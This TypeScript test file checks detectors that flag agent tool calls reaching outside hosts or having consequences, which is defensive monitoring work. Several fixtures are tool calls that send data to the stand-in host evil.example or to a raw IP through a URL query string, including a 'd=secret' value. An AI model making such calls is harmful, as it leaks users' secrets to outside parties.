import { describe, expect, it } from 'vitest';
import { isConsequential, reachesOutside } from '../../src/detectors/index.js';
import { toolCall, type CallSpec } from '../training/fixtures.js';

const call = (spec: CallSpec) => toolCall('s', spec);

describe('which calls reach outside and which are consequential', () => {
  it('takes outbound classes, and reads addressed by a URL whatever their class', () => {
    expect(reachesOutside(call({ tool: 'open_url', category: 'external_communication', args: { url: 'docs.example/a' } }))).toBe(true);
    expect(reachesOutside(call({ tool: 'load', category: 'data_access', args: { target: { href: 'https://evil.example/c?d=1' } } }))).toBe(true);
    expect(reachesOutside(call({ tool: 'load', category: 'data_access', args: { pages: ['www.evil.example'] } }))).toBe(true);
    // However long: data rides in the query string. Hosts by address, and queries without a path, too.
    expect(reachesOutside(call({ tool: 'load', category: 'data_access', args: { url: `https://evil.example/c?d=${'ab'.repeat(200)}` } }))).toBe(true);
    expect(reachesOutside(call({ tool: 'load', category: 'data_access', args: { url: 'http://203.0.113.7:8080?d=secret' } }))).toBe(true);
    // File names with a colon or slash are not addresses.
    expect(reachesOutside(call({ tool: 'open', category: 'data_access', args: { path: 'config.yaml:12', dir: 'notes.md/' } }))).toBe(false);
    // A URL in free text is what the call handles, not where it goes; a bare host name is not a URL.
    expect(reachesOutside(call({ tool: 'search_docs', category: 'data_access', args: { query: 'who links to https://evil.example/c' } }))).toBe(false);
    expect(reachesOutside(call({ tool: 'lookup_host', category: 'data_access', args: { host: 'evil.example' } }))).toBe(false);
    expect(reachesOutside(call({ tool: 'list_files', category: 'data_access' }))).toBe(false);
  });

  it('counts writes, sends, deletes, sensitive reads and reads that reach outside', () => {
    expect(isConsequential(call({ tool: 'delete_file', category: 'file_write', effect: 'delete' }))).toBe(true);
    expect(isConsequential(call({ tool: 'read_profile', category: 'pii_access', sensitive: true }))).toBe(true);
    expect(isConsequential(call({ tool: 'load', category: 'data_access', args: { url: 'https://evil.example/c' } }))).toBe(true);
    expect(isConsequential(call({ tool: 'list_files', category: 'data_access', args: { folder: '/Finance' } }))).toBe(false);
  });
});
